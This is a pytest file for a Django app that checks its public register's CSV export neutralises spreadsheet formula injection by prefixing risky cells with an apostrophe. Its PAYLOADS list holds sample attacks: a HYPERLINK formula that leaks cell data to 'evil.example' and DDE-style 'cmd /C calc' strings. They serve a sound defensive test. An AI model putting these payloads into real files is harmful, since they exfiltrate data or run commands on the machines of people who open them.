"""Issue 11, point 5: the public register's CSV is safe to open in a spreadsheet. A cell
written from user text that starts with =, +, -, @, a tab or a carriage return is
prefixed with an apostrophe (OWASP), so a formula typed into a subject is shown, not run."""

import csv
import io
from datetime import date

import pytest

from requests_app.exports import csv_writer, safe_cell
from requests_app.models import InformationRequest
from tests.factories import BodyFactory, decide_request, make_request

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(client):
    content = client.get("/en/register/export.csv").content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


def test_six_formula_payloads_in_subjects_reach_the_csv_neutralised(client):
    body = BodyFactory(name_en="=1+2 body", name_fr="=1+2 organisme", name_ar="=1+2 هيئة")
    references = {}
    for payload in PAYLOADS:
        request = make_request(body=body, received_on=date(2026, 9, 1), subject=payload + " budget")
        decide_request(request, "refused")
        # The portal strips a leading tab or carriage return; a subject set by other
        # means (the admin, an import) may keep it: the CSV must not trust either way.
        InformationRequest.objects.filter(pk=request.pk).update(public_subject=payload + " budget")
        references[request.reference] = payload
    rows = {row[0]: row for row in _rows(client)[1:]}
    assert set(references) <= set(rows)
    for reference, payload in references.items():
        subject, body_name = rows[reference][2], rows[reference][1]
        assert subject == "'" + payload + " budget"
        assert body_name == "'=1+2 body"
    # No cell anywhere in the file starts as a formula.
    for row in _rows(client):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_ordinary_text_is_written_as_it_is():
    assert safe_cell("Budget 2025") == "Budget 2025"
    assert safe_cell("ميزانية الجماعة") == "ميزانية الجماعة"
    assert safe_cell("2026-000001") == "2026-000001"
    assert safe_cell("") == ""
    assert safe_cell(None) is None
    assert safe_cell(3) == 3
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["=A1", "-", "ok"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=A1", "'-", "ok"]


def test_every_csv_in_the_code_is_written_through_the_one_safe_writer():
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    direct = [str(path.relative_to(root)) for app in ("accounts", "requests_app", "appeals", "proactive",
                                                      "config")
              for path in (root / app).rglob("*.py")
              if path.name != "exports.py" and ("csv.writer(" in path.read_text(encoding="utf-8")
                                               or "csv.DictWriter(" in path.read_text(encoding="utf-8"))]
    assert direct == []
